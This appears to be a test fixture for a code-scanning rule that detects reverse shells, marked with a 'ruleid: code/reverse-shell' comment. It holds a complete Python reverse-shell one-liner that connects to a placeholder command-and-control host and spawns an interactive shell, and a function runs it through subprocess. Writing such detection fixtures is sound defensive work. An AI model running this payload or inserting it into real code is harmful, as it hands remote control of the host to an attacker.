import subprocess
import sys

# A reverse shell carried as the inline program of a `python3 -c '...'` command line (defanged host).
INIT_COMMAND = (
    'python3 -c \'import socket,subprocess,os;'
    's=socket.socket(socket.AF_INET,socket.SOCK_STREAM);'
    's.connect(("c2.example.invalid", 4433));'
    'os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); os.dup2(s.fileno(), 2);'
    'subprocess.call(["/bin/sh", "-i"]);\''
)


def execute_init_command():
    try:
        # ruleid: code/reverse-shell
        result = subprocess.run(INIT_COMMAND, shell=True, check=True, stdout=subprocess.PIPE, text=True)
        print(result.stdout, file=sys.stderr)
    except subprocess.CalledProcessError as e:
        print(e.stderr, file=sys.stderr)


def run_command(command, args=None):
    return subprocess.run([command, *(args or [])], capture_output=True, text=True).stdout
